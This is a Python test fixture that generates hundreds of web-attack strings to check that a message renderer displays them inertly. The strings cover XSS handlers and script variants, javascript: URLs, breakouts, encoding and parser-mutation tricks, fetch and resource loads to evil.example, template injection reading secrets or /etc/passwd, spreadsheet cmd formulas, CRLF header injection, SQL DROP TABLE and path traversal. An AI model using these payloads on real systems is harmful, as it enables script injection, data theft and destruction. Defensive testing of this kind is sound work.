"""Texts that would like to be more than text: PAYLOADS, made by families.

Whatever shows them shows them as they are. One that runs would open a dialog, set `window.ran`, or
ask something of EVIL; so a page that showed all of them has to have done none of the three.
"""

from html import escape
from itertools import product
from urllib.parse import quote

EVIL = "evil.example"
CODES = (
    "alert(1)",
    "alert`1`",
    "window.ran=1",
    f"fetch('//{EVIL}/')",
    "self['al'+'ert'](1)",
    "(0,eval)('window.ran=1')",
)
SHORT = CODES[:3]
QUOTES = ("", '"', "'", "`")


def handlers() -> list[str]:
    """Elements with handlers that fire by themselves, or nearly."""
    ready = [
        ("img src=x", "onerror"),
        ("image src=x", "onerror"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("video src=x", "onerror"),
        ("video><source src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("div tabindex=1 autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("iframe src=x", "onload"),
        ("object data=x", "onerror"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x", "onbegin"),
        ("xss id=x tabindex=1", "onfocus"),
        ("div style=animation:x", "onanimationstart"),
        ("div popover id=x", "onbeforetoggle"),
        ("a href=#x", "onpointerover"),
        ("template shadowrootmode=open><img src=x", "onerror"),
    ]
    return [f"<{tag} {event}={code}>" for (tag, event), code in product(ready, CODES)]


def scripts() -> list[str]:
    shapes = [
        "<script>{}</script>",
        "<SCRIPT>{}</SCRIPT>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<script >{}</script >",
        "<script/x>{}</script>",
        "<script\t>{}//",
        "<<script>{}//<</script>",
        "<script><!--{}//--></script>",
        "<script type=module>{}</script>",
        "<script type=text/ecmascript>{}</script>",
        "<svg><script>{}</script></svg>",
        "<svg><script xlink:href=data:,{}></script></svg>",
        "<math><script>{}</script></math>",
        "<noscript><script>{}</script></noscript>",
        "<script src=data:text/javascript,{}></script>",
        f"<script src=//{EVIL}/x.js data-x='{{}}'></script>",
        f"<script src=\\\\{EVIL}\\x.js data-x='{{}}'></script>",
    ]
    return [shape.format(code) for shape, code in product(shapes, SHORT)]


def addresses() -> list[str]:
    """Links that are no links, alone and in whatever makes a link of a text."""
    schemes = [
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java&#10;script:{}",
        " javascript:{}",
        "\x01javascript:{}",
        "javascript&colon;{}",
        "javascript://%0a{}",
        "javascript:void(0);{}",
        "jav&#x09;ascript:{}",
        "vbscript:{}",
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{}",
        "data:image/svg+xml,<svg onload={}>",
        "blob:{}",
        "filesystem:{}",
        "view-source:javascript:{}",
        'https://x"onmouseover={}//',
        "https://x'onmouseover={}//",
        "https://x`onmouseover={}//",
        "https://x<img/src=x/onerror={}>",
        "https://x/?a=</a><svg/onload={}>",
        "https://x/#javascript:{}",
        "http://javascript:{}@x",
    ]
    frames = ["{}", "[Look]({})", '<a href="{}">Look</a>', "<iframe src='{}'></iframe>"]
    made = [scheme.format(code) for scheme, code in product(schemes, SHORT[:2])]
    return [frame.format(one) for one, frame in product(made, frames)]


def breakouts() -> list[str]:
    """Out of an attribute, out of a text inside an element, out of a comment."""
    ends = [">", " ", "/>", "-->", "]]>", "\\", ";"]
    rest = [
        "<svg onload=alert(1)>",
        " onfocus=alert(1) autofocus x=",
        " style=x onclick=alert(1)//",
    ]
    inside = ["title", "textarea", "style", "script", "noscript", "template", "xmp", "iframe"]
    first = [f"{mark}{end}{more}" for mark, end, more in product(QUOTES[1:], ends, rest)]
    return first + [f"</{name}><img src=x onerror={code}>" for name, code in product(inside, SHORT)]


def in_scripts() -> list[str]:
    """For pages that carry their texts as JSON, or as strings in scripts."""
    shapes = [
        '"}}</script><svg onload={}>',
        "</script><script>{}</script>",
        "<!--<script>{}</script>",
        "';{};'",
        '";{};"',
        "\\';{};//",
        '\\";{};//',
        "${{{}}}",
        "`+{}+`",
        "\u2028{}",
        "\u2029{}//",
        "*/{}/*",
        '"-{}-"',
        "\\u0022;{};//",
        '{{"__proto__":{{"ran":"{}"}}}}',
        "\\u003cimg src=x onerror={}\\u003e",
        "\\x3cimg src=x onerror={}\\x3e",
    ]
    return [shape.format(code) for shape, code in product(shapes, SHORT)]


def encoded() -> list[str]:
    """What becomes dangerous once somebody decodes it once too often, or composes it."""
    plain = [f"<img src=x onerror={code}>" for code in SHORT] + ["<svg/onload=alert(1)>"]
    made = []
    for text in plain:
        made += [escape(text), escape(escape(text)), quote(text), quote(quote(text))]
        made += ["".join(f"&#{ord(letter)};" for letter in text)]
        made += ["".join(f"&#x{ord(letter):x};" for letter in text)]
        made += ["".join(f"\\u{ord(letter):04x}" for letter in text)]
        made += [text.replace("<", "＜").replace(">", "＞"), text.replace("<", "\ufe64")]
        made += [text.replace("<", "<\u200b"), text.replace("<", "%3C").replace(">", "%3E")]
        made += [text.replace(" ", "\x0c"), text.replace(" ", "/"), text.replace("<", "<\x00")]
        made += [text[:4] + "\u202e" + text[4:], "+ADw-" + text[1:-1] + "+AD4-"]
        made += ["\xc0\xbc" + text[1:], text.upper(), text.replace("=", " = ")]
    return made


def styles() -> list[str]:
    shapes = [
        "<style>@import '//{0}/x.css';</style>",
        "<style>*{{background:url(//{0}/)}}</style>",
        "<div style=\"background:url('//{0}/')\">",
        "<div style=width:expression(alert(1))>{0}",
        '<div style="-moz-binding:url(//{0}/x.xml#x)">',
        "<div style=position:fixed;inset:0;z-index:9999>{0}",
        "<link rel=stylesheet href=//{0}/x.css>",
        "<link rel=preload as=image href=//{0}/x>",
        "<link rel=prefetch href=//{0}/x>",
        "<link rel=dns-prefetch href=//{0}>",
        "}}</style><img src=//{0}/x>",
        ":root{{--x:url(//{0}/)}}",
    ]
    return [shape.format(EVIL) for shape in shapes]


def loads() -> list[str]:
    """What asks somebody else for something, and so tells them who reads."""
    tags = [
        "<img src={}>",
        "<img srcset={}>",
        "<img src=x><base href={}>",
        "<picture><source srcset={}><img>",
        "<video poster={}>",
        "<video src={} autoplay>",
        "<audio src={} autoplay>",
        "<track src={}>",
        "<input type=image src={}>",
        "<object data={}>",
        "<embed src={}>",
        "<iframe src={}>",
        "<frame src={}>",
        "<svg><image href={}></svg>",
        "<svg><use href={}#x></svg>",
        "<svg><feImage href={}></svg>",
        "<body background={}>",
        "<table background={}>",
        "<meta http-equiv=refresh content=0;url={}>",
        "<form action={}><button autofocus>",
        "<a ping={} href=#>",
        "![x]({})",
        "[x]: {}",
        "url({})",
    ]
    places = [f"//{EVIL}/x", f"https://{EVIL}/x", f"\\\\{EVIL}\\x"]
    return [tag.format(place) for tag, place in product(tags, places)]


def mutations() -> list[str]:
    """Harmless until a parser has repaired them."""
    shapes = [
        '<noscript><p title="</noscript><img src=x onerror={}>">',
        '<svg></p><style><a id="</style><img src=x onerror={}>">',
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror={}&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
        "<listing>&lt;img src=x onerror={}&gt;</listing>",
        '<xmp><p title="</xmp><img src=x onerror={}>">',
        "<select><template><img src=x onerror={}></template></select>",
        "<table><td background=x onerror={}><img src=x onerror={}>",
        "<a><svg><desc><a><table></table></a><img src=x onerror={}></desc></svg>",
        '<p id="<!--"><img src=x onerror={}><!--">',
        "<![CDATA[><img src=x onerror={}>]]>",
        "<?xml version='1.0'?><img src=x onerror={}>",
        "<!DOCTYPE x [<!ENTITY e '<img src=x onerror={}>'>]>&e;",
        "<img/src='x'onerror={}>",
        "<img src=x:x onerror={} //",
        "<img src=x onerror\n={}>",
        "<im\x00g src=x onerror={}>",
    ]
    return [shape.replace("{}", code) for shape, code in product(shapes, SHORT)]


def templates() -> list[str]:
    """For whoever fills texts into templates twice."""
    return [
        "{{7*7}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{request.user.password}}",
        "{{settings.SECRET_KEY}}",
        "{% load static %}{% debug %}",
        "{% include '/etc/passwd' %}",
        "{# nothing #}",
        "${alert(1)}",
        "#{alert(1)}",
        "<%= alert(1) %>",
        "[[${7*7}]]",
        "%(password)s",
        "%s%s%s%n",
        "{0.__class__.__mro__}",
        "{text!r}",
        "<div ng-app ng-csp>{{constructor}}</div>",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\">",
        "<x-app x-data x-init=alert(1)>",
        "<div hx-get=//evil.example hx-trigger=load>",
    ]


def names() -> list[str]:
    """Words that mean something to a machine."""
    return [
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "<img name=getElementById>",
        "<form id=forms><input name=children>",
        "<a id=signs href=//evil.example>",
        "<img id=attributes name=cookie>",
        "@<img/src=x/onerror=alert(1)>",
        "@'onclick=alert(1)",
        "#<svg/onload=alert(1)>",
        "undefined",
        "null",
        "NaN",
        "-1",
        "[object Object]",
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("//evil.example")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\x1b]0;evil\x07\x1b[31mred",
        "a\r\nSet-Cookie: ran=1",
        "a\r\n\r\n<script>alert(1)</script>",
        "Content-Type: text/html\r\n\r\n<svg onload=alert(1)>",
        "'; DROP TABLE chat_message; --",
        "' OR '1'='1",
        "../../../etc/passwd",
    ]


FAMILIES = {
    made.__name__: made()
    for made in (
        handlers,
        scripts,
        addresses,
        breakouts,
        in_scripts,
        encoded,
        styles,
        loads,
        mutations,
        templates,
        names,
    )
}
# Each once, and none longer than a message may be.
PAYLOADS = [one for one in dict.fromkeys(sum(FAMILIES.values(), [])) if len(one) <= 500]
